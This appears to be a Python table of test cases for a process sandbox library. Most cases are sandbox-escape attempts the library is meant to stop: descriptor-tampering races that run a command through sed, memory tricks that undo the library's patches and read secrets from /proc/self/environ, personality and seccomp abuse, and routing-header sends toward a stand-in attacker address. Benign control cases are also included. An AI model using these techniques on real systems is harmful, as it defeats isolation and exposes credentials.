"""Attacks on what a verdict rests on, as data: what a program inherits, what memory keeps, what modes and routes mean, names.

The second part of the table of `cases.py`, in the same form; `../run.py` plays both.
"""

from cases import HONEST, STOPPED, case

# Descriptors of the library, found as anybody can; none without it.
OURS = """
import fcntl
ours = []
for number in os.listdir('/proc/self/fd'):
    try:
        if 'ringfence' in os.readlink(f'/proc/self/fd/{number}'): ours.append(int(number))
    except OSError: pass
"""

# An allowed program that would start a shell, in a fork of which three threads `mark` the descriptors meanwhile.
RACED = OURS + """
end = time.time() + 4
turn = 0
while time.time() < end and not won:
    turn += 1
    def start(writer):
        child = os.fork()
        if child == 0:
            try:
                os.dup2(writer, 1)
                def loop():
                    while True:
                        for number in ours:
                            try: treat(number)
                            except OSError: pass
                for _ in range(3): threading.Thread(target=loop, daemon=True).start()
                time.sleep(0.0005 * (turn % 5))
                os.execve('/usr/bin/sed', ['sed', '-n', '1e echo pwned', '/etc/hostname'], {'PATH': '/usr/bin:/bin'})
            finally: os._exit(1)
        return child
    won = b'pwned' in spawned(start)
"""

# The same once, by one treatment before the exec, without threads.
TREATED = OURS + """
def work():
    for number in ours or [900]:
        try: treat(number)
        except OSError: pass
    return output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n', close_fds=False)
won = forked(work) == b'pwned\\n'
"""

TREATMENTS = (
    ("by-f-setfd", "fcntl(F_SETFD)", "treat = lambda n: fcntl.fcntl(n, 2, 1)"),
    ("by-fioclex", "ioctl(FIOCLEX)", "treat = lambda n: fcntl.ioctl(n, 0x5451)"),
    ("by-set-inheritable", "os.set_inheritable", "treat = lambda n: os.set_inheritable(n, False)"),
    ("by-dup2", "another memory file put in their place", "file = os.memfd_create('x', 0)\ntreat = lambda n: os.dup2(file, n)"),
    ("by-close-range", "close_range, which only marks", "treat = lambda n: libc.close_range(n, n, 4)"),
    ("by-number", "fcntl by syscall(3), with a high half", "treat = lambda n: libc.syscall(72, ctypes.c_long(n + (1 << 32)), 2, 1)"),
    ("by-rights", "closed, and others received in their place", """
left, right = socket.socketpair()
def treat(n):
    try: os.close(n)
    finally:
        socket.send_fds(left, [b'x'], [0]); socket.recv_fds(right, 1, 1)
"""),
)

INHERITED = [
    *[case(f"descriptors-marked-{name}-in-a-race", STOPPED, f"our descriptors kept from a program by {what}, by threads while it starts",
           code + RACED, rule="process.shells") for name, what, code in TREATMENTS[:2]],
    *[case(f"descriptors-kept-{name}", STOPPED, f"our descriptors kept from a program: {what}", code + TREATED, rule="process.shells")
      for name, what, code in TREATMENTS],
    case("descriptors-kept-by-spawn-actions", STOPPED, "our descriptors closed and replaced by posix_spawn's file actions", OURS + """
reader, writer = os.pipe()
null = os.open('/dev/null', os.O_RDWR)
actions = [(os.POSIX_SPAWN_DUP2, writer, 1)]
for number in ours:
    actions += [(os.POSIX_SPAWN_CLOSE, number), (os.POSIX_SPAWN_DUP2, null, number)]
try: child = os.posix_spawn('/usr/bin/sed', ['sed', '-n', '1e echo pwned', '/etc/hostname'], {}, file_actions=actions)
except OSError: child = 0
os.close(writer)
won = b'pwned' in os.read(reader, 99)
child and os.waitpid(child, 0)
"""),
    case("descriptors-of-a-small-table", STOPPED, "a limit on descriptors below ours, then everything closed that can be", """
import resource
def work():
    resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
    os.closerange(3, 65536)
    os.execve('/usr/bin/sed', ['sed', '-n', '1e echo pwned > /tmp/small', '/etc/hostname'], {})
forked(work)
won = os.path.exists('/tmp/small')
""", rule="process.shells"),
    case("another-root", STOPPED, "a program started in a name space with another root, where there is no library", """
def work():
    if libc.unshare(0x10020000) != 0: return b''
    for folder in ('root', 'root/usr', 'root/lib', 'root/lib64', 'root/bin'): os.makedirs(f'/tmp/{folder}', exist_ok=True)
    for folder in ('usr', 'lib', 'lib64', 'bin'):
        libc.mount(f'/{folder}'.encode(), f'/tmp/root/{folder}'.encode(), None, 0x5000, None)
    os.chroot('/tmp/root')
    return output(['/usr/bin/sed', '-n', '1e echo pwned'], input=b'x\\n')
won = forked(work) == b'pwned\\n'
""", control=False),
]

# Memory calls by ctypes, and what has come of libc's text.
MEMORY = """
for name in ('madvise', 'mmap', 'mremap', 'remap_file_pages', 'shmat'): getattr(libc, name).restype = ctypes.c_void_p
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]; libc.madvise.restype = ctypes.c_int
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.remap_file_pages.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
pages = [(start, end - start) for start, end, _, path, _ in mapped('ringfence') if 'memfd' in path]
start, end, _, path, offset = next(m for m in mapped('libc.so.6') if 'x' in m[2])
"""
READS = """
try: won = b'AWS_SECRET' in open('/proc/self/environ', 'rb').read()
except OSError: pass
"""

PAGES = [
    case("pages-hidden-from-a-fork", STOPPED, "the policy's pages left out of a fork by MADV_DONTFORK, zeroes there by a hint", MEMORY + """
taken = [libc.madvise(at, length, 10) == 0 for at, length in pages]
def work():
    if not pages or not all(taken): return b''
    for at, length in pages: libc.mmap(at, length, 3, 0x100022, -1, 0)
    return output(SHELL)
won = forked(work) == b'pwned\\n'
""", rule="self_protection", alone=True, control=False),
    *[case(f"libc-discarded-by-advice-{advice}", STOPPED, f"the patched pages of libc dropped by {name}", MEMORY + f"""
libc.madvise(start, end - start, {advice})
libc.madvise(start, end - start, 103)
""" + READS, rule="self_protection", alone=True, control=False)
      for advice, name in ((8, "MADV_FREE"), (9, "MADV_REMOVE"), (18, "MADV_WIPEONFORK"), (24, "MADV_DONTNEED_LOCKED"),
                           (102, "guard pages, taken away again (Linux 6.15)"), (10, "MADV_DONTFORK"))],
    case("libc-discarded-by-process-madvise", STOPPED, "the same by process_madvise on the process itself", MEMORY + """
vector = (ctypes.c_size_t * 2)(start, end - start)
try: process = os.pidfd_open(os.getpid())
except OSError: process = -1
libc.syscall(440, process, vector, 1, 4, 0)
""" + READS, rule="self_protection", alone=True, control=False),
    case("page-remapped", STOPPED, "another part of the handoff's file brought to where its beginning is mapped, by remap_file_pages",
         MEMORY + """
for at, length in pages: won = won or libc.remap_file_pages(at, 4096, 0, 1, 0) == 0
""", rule="self_protection", alone=True, control=False),
    case("segment-over-libc", STOPPED, "a System V segment attached over libc's text, from below it", MEMORY + """
libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
segment = libc.shmget(0, end - start + (1 << 20), 0o1600)
try: won = libc.shmat(segment, start - (1 << 20), 0o40000) not in (None, 2 ** 64 - 1)
finally: libc.shmctl(segment, 0, None)
""", rule="self_protection", alone=True, control=False),
    case("faults-of-its-own", STOPPED, "userfaultfd, by which pages could be moved away", "won = libc.syscall(323, 1) >= 0",
         rule="self_protection", control=False),
    case("library-made-writable", STOPPED, "the library's own tables made writable", MEMORY + """
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for start, end, perm, path, _ in mapped('libringfence'):
    if 'w' not in perm: won = won or libc.mprotect(start, end - start, 3) == 0
""", rule="self_protection", alone=True, control=False),
]

# A file of /tmp that is mapped for reading, and run.
BLOB = """
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
def work():
    if libc.personality({persona}) == -1: return b''
    write('/tmp/blob', bytes.fromhex('b82a000000c3') + bytes(4090))
    at = libc.mmap(None, 4096, 1, 2, os.open('/tmp/blob', os.O_RDONLY), 0)
    return str(ctypes.CFUNCTYPE(ctypes.c_long)(at)()).encode()
won = forked(work) == b'42'
"""

MODES = [
    case("code-by-personality", STOPPED, "a file of /tmp is code without any call that says so: READ_IMPLIES_EXEC",
         BLOB.format(persona="0x400000"), rule="self_protection"),
    case("code-by-personality-in-disguise", STOPPED, "the same, as a 32-bit machine, with bits above that the kernel passes over",
         BLOB.format(persona="ctypes.c_long((1 << 40) | 0x400008)"), rule="self_protection"),
    case("addresses-known-beforehand", STOPPED, "ADDR_NO_RANDOMIZE, for the programs that come", """
won = libc.personality(0x40000) != -1 and libc.personality(ctypes.c_ulong(0xffffffff)) & 0x40000 != 0
""", rule="self_protection", alone=True),
    case("filter-that-answers", STOPPED, "a seccomp filter in a fork says that every name is empty, so that no rule knows a file", """
import fcntl
def work():
    program = struct.pack('<HBBIHBBIHBBIHBBI', 0x20, 0, 0, 0, 0x15, 0, 1, 267, 6, 0, 0, 0x50000, 6, 0, 0, 0x7fff0000)
    room = ctypes.create_string_buffer(program)
    described = (ctypes.c_size_t * 2)(4, ctypes.addressof(room))
    libc.prctl(38, 1, 0, 0, 0)
    if libc.syscall(317, 1, 0, described) != 0 and libc.prctl(22, 2, described) != 0: return b''
    return open('/proc/self/environ', 'rb').read()
won = b'AWS_SECRET' in forked(work)
""", control=False),
    case("numbers-of-another-abi", STOPPED, "opens by the numbers of x32 and by those above all that are known", """
for number in (0x40000000 + 257, 0x40000000 + 2, 257 + (1 << 31)):
    file = libc.syscall(ctypes.c_long(number), -100, b'/proc/self/environ', 0)
    won = won or (file >= 0 and b'AWS_SECRET' in os.read(file, 1 << 16))
""", control=False),
]

# To an allowed address, by way of the attacker's.
ROUTE = """
ip = socket.getaddrinfo('docs.example', 80, socket.AF_INET6, socket.SOCK_DGRAM)[0][4][0]
route = bytes([0, 4, 4, 1, 1, 0, 0, 0]) + socket.inet_pton(10, ip) + socket.inet_pton(10, '2001:db8::66')
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
"""

ROUTES = [
    case("udp-route-by-option", STOPPED, "a datagram to an allowed address by a routing header that leads to the attacker", ROUTE + """
s.setsockopt(41, 57, route); won = s.sendto(mark.encode(), (ip, 80)) > 0
"""),
    case("udp-route-by-control-data", STOPPED, "the same, the header in the message's control data", ROUTE + """
won = s.sendmsg([mark.encode()], [(41, 57, route)], 0, (ip, 80)) > 0
""", control=False),
    case("udp-route-by-control-data-connected", STOPPED, "the same on a connected socket, which needs no address", ROUTE + """
s.connect((ip, 80)); won = s.sendmsg([mark.encode()], [(41, 5, route), ]) > 0
""", control=False),
    case("udp-route-by-sendmmsg", STOPPED, "the same by sendmmsg", ROUTE + """
s.connect((ip, 80))
data, control = ctypes.create_string_buffer(mark.encode()), struct.pack('<Qii', 16 + len(route), 41, 57) + route
control = ctypes.create_string_buffer(control)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(data), len(mark))
message = (ctypes.c_size_t * 8)(0, 0, ctypes.addressof(vector), 1, ctypes.addressof(control), 16 + len(route), 0, 0)
won = libc.sendmmsg(s.fileno(), message, 1, 0) > 0
""", control=False),
    case("tcp-source-route", STOPPED, "a connection to an allowed address by a source route (IP_OPTIONS)", """
s = socket.socket()
s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(EVIL) + bytes([0])); won = True
""", control=False),
]

KEPT = """
[[rule]]
when = { phase = "invoke" }
files.deny_write = ["/tmp/conf/**"]
"""
# /tmp/l leads to a place that may be written and to one that may not, in turn.
FLIPPED = """
os.makedirs('/tmp/conf', exist_ok=True); os.makedirs('/tmp/okdir', exist_ok=True)
os.path.lexists('/tmp/l') or os.symlink('/tmp/okdir', '/tmp/l')
racer = os.fork()
if racer == 0:
    while True:
        for target in ('/tmp/conf', '/tmp/okdir'):
            try: os.symlink(target, '/tmp/t1'); os.rename('/tmp/t1', '/tmp/l')
            except OSError: pass
end = time.time() + 4
while time.time() < end and not won:
    try: {deed}
    except OSError: pass
    won = os.path.lexists('/tmp/conf/x')
os.kill(racer, 9); os.waitpid(racer, 0)
"""

NAMES = [
    *[case(f"kept-place-raced-by-{name}", STOPPED, f"a name made by {name} in a place that may not be written, by a link that is swapped",
           FLIPPED.format(deed=deed), rule="files.deny_write", policy=KEPT)
      for name, deed in (
          ("open", "os.close(os.open('/tmp/l/x', os.O_CREAT | os.O_WRONLY))"),
          ("exclusive-open", "os.close(os.open('/tmp/l/x', os.O_CREAT | os.O_EXCL | os.O_WRONLY)); os.unlink('/tmp/okdir/x')"),
          ("mkdir", "os.mkdir('/tmp/l/x'); os.rmdir('/tmp/okdir/x')"),
          ("symlink", "os.symlink('y', '/tmp/l/x'); os.unlink('/tmp/okdir/x')"),
          ("rename", "write('/tmp/y', b''); os.rename('/tmp/y', '/tmp/l/x'); os.unlink('/tmp/okdir/x')"),
          ("link", "os.path.exists('/tmp/y') or write('/tmp/y', b''); os.link('/tmp/y', '/tmp/l/x'); os.unlink('/tmp/okdir/x')"),
          ("mknod", "os.mkfifo('/tmp/l/x'); os.unlink('/tmp/okdir/x')"),
      )],
    case("kept-place-without-descriptors", STOPPED, "a name made where none may be, when no descriptor is left to judge it by", """
import resource
os.makedirs('/tmp/conf', exist_ok=True)
def work():
    resource.setrlimit(resource.RLIMIT_NOFILE, (3, 3))
    for number in range(3, 20):
        try: os.close(number)
        except OSError: pass
    try: os.mkdir('/tmp/conf/x')
    except OSError: pass
forked(work)
won = os.path.isdir('/tmp/conf/x')
""", policy=KEPT),
]

HONESTLY = [
    case("honest-names", HONEST, "names made, moved, linked and removed, and every error of it", """
import shutil
shutil.rmtree('/tmp/names', ignore_errors=True); os.mkdir('/tmp/names')
here = os.open('/tmp/names', os.O_RDONLY)
def tried(work):
    try: return repr(work())
    except OSError as raised: return raised.errno
at = lambda name: f'/tmp/names/{name}'
write(at('a'), b'abc')
said = [tried(work) for work in (
    lambda: os.mkdir(at('d/')), lambda: os.mkdir(at('d')), lambda: os.mkdir(at('n/m')), lambda: os.mkdir(''), lambda: os.mkdir('/'),
    lambda: os.rename(at('a'), at('b')), lambda: os.rename(at('a'), at('b')), lambda: os.rename(at('b'), at('d')), lambda: os.rename(at('b/'), at('c')),
    lambda: os.rename(at('d/'), at('e/')), lambda: os.link(at('b'), at('l')), lambda: os.link(at('e'), at('m')), lambda: os.symlink('nowhere', at('s')),
    lambda: os.link(at('s'), at('t'), follow_symlinks=False), lambda: os.readlink(at('t')), lambda: os.open(at('s/x'), os.O_CREAT | os.O_WRONLY),
    lambda: os.open(at('s'), os.O_CREAT | os.O_EXCL | os.O_WRONLY), lambda: os.close(os.open(at('s'), os.O_CREAT | os.O_WRONLY)), lambda: os.path.exists(at('nowhere')),
    lambda: os.open(at('new/'), os.O_CREAT | os.O_WRONLY), lambda: os.open(at('e'), os.O_WRONLY), lambda: os.open(at('s'), os.O_WRONLY | os.O_NOFOLLOW),
    lambda: os.truncate(at('b'), 1), lambda: os.stat(at('b')).st_size, lambda: os.truncate(at('e'), 1), lambda: os.truncate(at('none'), 1),
    lambda: os.mkdir('f', dir_fd=here), lambda: os.rename('f', 'g', src_dir_fd=here, dst_dir_fd=here), lambda: os.rmdir('g', dir_fd=here), lambda: os.rmdir(at('.')),
    lambda: os.unlink(at('e')), lambda: os.unlink(at('b/')), lambda: os.unlink(at('')), lambda: os.rmdir(at('..')), lambda: os.unlink('/tmp/' + 'x' * 300),
    lambda: os.close(os.open('/tmp/names', os.O_TMPFILE | os.O_RDWR, 0o600)), lambda: oct(os.stat(at('b')).st_mode), lambda: os.mkfifo(at('p')),
    lambda: os.listdir(at('')).sort(),
)] + [sorted(os.listdir('/tmp/names'))]
shutil.rmtree('/tmp/names')
""", policy=KEPT),
    case("honest-modes", HONEST, "what programs ask and set of their own state", """
libc.personality.restype = ctypes.c_uint
name = ctypes.create_string_buffer(16)
said = [
    libc.personality(ctypes.c_ulong(0xffffffff)) & 0xff, libc.personality(ctypes.c_ulong(8)), libc.personality(ctypes.c_ulong(0)),
    libc.syscall(400, 0), libc.syscall(600, 0), libc.syscall(-1),
]
"""),
    case("honest-wrong-arguments", HONEST, "signals and memory calls with arguments that make no sense", """
libc.mremap.restype = ctypes.c_void_p
libc.mremap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int]
libc.madvise.argtypes = libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
def error(result):
    return (ctypes.get_errno() if result in (-1, 2 ** 64 - 1) else result)
def call(work):
    ctypes.set_errno(0)
    return error(work())
param = (ctypes.c_int * 8)()
said = [call(work) for work in (
    lambda: libc.syscall(200, -1, 9), lambda: libc.syscall(200, 0, 9), lambda: libc.syscall(200, os.getpid(), 999), lambda: libc.syscall(234, -1, 5, 9),
    lambda: libc.kill(os.getpid(), 999), lambda: libc.kill(-1, 999), lambda: libc.syscall(129, -1, 9, param), lambda: libc.syscall(129, os.getpid(), 9, None),
    lambda: libc.sched_setparam(-1, param), lambda: libc.sched_setscheduler(-5, 0, param), lambda: libc.sched_setparam(0, None),
    lambda: libc.mremap(0x1001, 4096, 8192, 1), lambda: libc.mremap(0x10000, 4096, 8192, 1), lambda: libc.mremap(0x10000, 4096, 0, 1), lambda: libc.mremap(0x10000, 2 ** 64 - 1, 4096, 1),
    lambda: libc.mremap(2 ** 63, 4096, 4096, 99), lambda: libc.madvise(0x1001, 1, 4), lambda: libc.mprotect(0x1001, 1, 1), lambda: libc.munmap(0x1001, 1), lambda: libc.munmap(0x10000, 0),
    lambda: libc.sendmsg(0, None, 0), lambda: libc.sendmmsg(socket.socket(type=2).fileno(), None, 1, 0), lambda: libc.sendmmsg(socket.socket(type=2).fileno(), ctypes.c_void_p(2 ** 64 - 8), 1, 0),
)]
"""),
    case("honest-messages", HONEST, "messages with and without names and control data, on every kind of socket", """
server = socket.create_server(('127.0.0.1', 0)); client = socket.create_connection(server.getsockname()); peer, _ = server.accept()
said = [client.sendto(b'named', ('127.0.0.1', 9)), peer.recv(9).decode(), client.sendmsg([b'a', b'b'], [], 0, ('127.0.0.1', 9)), peer.recv(9).decode()]
udp = socket.socket(type=socket.SOCK_DGRAM); udp.bind(('127.0.0.1', 0))
said += [udp.sendmsg([b'tos'], [(0, 1, struct.pack('i', 0))], 0, udp.getsockname()), udp.recv(9).decode()]
udp.connect(udp.getsockname())
said += [udp.sendmsg([b'con'], [(0, 2, struct.pack('i', 9))]), udp.recv(9).decode(), udp.sendmsg([b'x']), udp.recv(9).decode()]
"""),
]

CASES = [*INHERITED, *PAGES, *MODES, *ROUTES, *NAMES, *HONESTLY]
